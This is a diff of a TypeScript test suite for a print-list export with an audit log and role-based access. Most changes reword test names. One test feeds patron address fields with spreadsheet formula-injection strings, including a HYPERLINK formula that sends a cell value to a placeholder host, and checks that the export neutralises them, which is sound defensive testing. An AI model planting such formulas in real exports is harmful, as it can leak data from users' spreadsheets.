@@ -70,8 +70,8 @@ const auditEventsOf = async (month: string) => [
   ...(await api.owner`select kind, staff_id, member_id from private.audit_log where edition = ${month}`),
 ]
 
-describe('a list for the printers', () => {
-  test('is what was written down when it was closed, also when addresses change and readers go', async () => {
+describe('a print list', () => {
+  test('is what was stored when it closed, also when addresses change and accounts are deleted', async () => {
     const [zoe, bea] = await replacePatrons(
       { addressLine2: 'Flat 2', state: 'NSW' },
       { firstName: 'Bea', lastName: 'Ash', postalCode: '1100' },
@@ -98,7 +98,7 @@ describe('a list for the printers', () => {
     expect(await linesOf(await downloadList(month))).toEqual([columns, expected[2]])
   })
 
-  test('is written down as taken, each time, by whom', async () => {
+  test('records each download with the staff member', async () => {
     await replacePatrons()
     const month = await newEdition({ isDue: true })
     expect(await linesOf(await downloadList(month))).toEqual([columns])
@@ -114,7 +114,7 @@ describe('a list for the printers', () => {
     expect(Date.now() - Date.parse(lastDownload?.at ?? '')).toBeLessThan(60_000)
   })
 
-  test('reckons nothing out in a spreadsheet', async () => {
+  test('contains no formulas for a spreadsheet', async () => {
     const formulaInjections = ['=HYPERLINK("https://a.example/?"&A1)', '+1+1', '-2+3', '@SUM(A1)', '＝1']
     await replacePatrons(
       ...formulaInjections.map((addressLine1) => ({ addressLine1, addressLine2: addressLine1, city: addressLine1 })),
@@ -125,7 +125,7 @@ describe('a list for the printers', () => {
     expect(lines.join('\n')).toContain('"\'=HYPERLINK(""https://a.example/?""&A1)"')
   })
 
-  test('cannot be had while it is open, or of an edition that there is not', async () => {
+  test('is refused while it is open, and for an edition that does not exist', async () => {
     await replacePatrons({}, undefined)
     const month = await newEdition({ isDue: false })
     expect(await findEdition(month)).toMatchObject({
@@ -141,7 +141,7 @@ describe('a list for the printers', () => {
     expect(await auditEventsOf(month)).toEqual([])
   })
 
-  test('is for owners; how the editions stand for owners and support; nothing of it for anybody else', async () => {
+  test('is for owners; the state of the editions is for owners and support; nothing is for others', async () => {
     await replacePatrons({})
     const month = await newEdition({ isDue: true })
     const statusFor = async (path: string, actor: TestReader) =>
@@ -159,7 +159,7 @@ describe('a list for the printers', () => {
         overview,
         list,
       ])
-      // Past the API too: the functions ask who it is.
+      // In the database as well: the SQL functions check the role.
       const past = await api.owner
         .begin(async (tx) => {
           await tx`select set_config('request.jwt.claims', ${JSON.stringify({ sub: actor.id })}, true)`
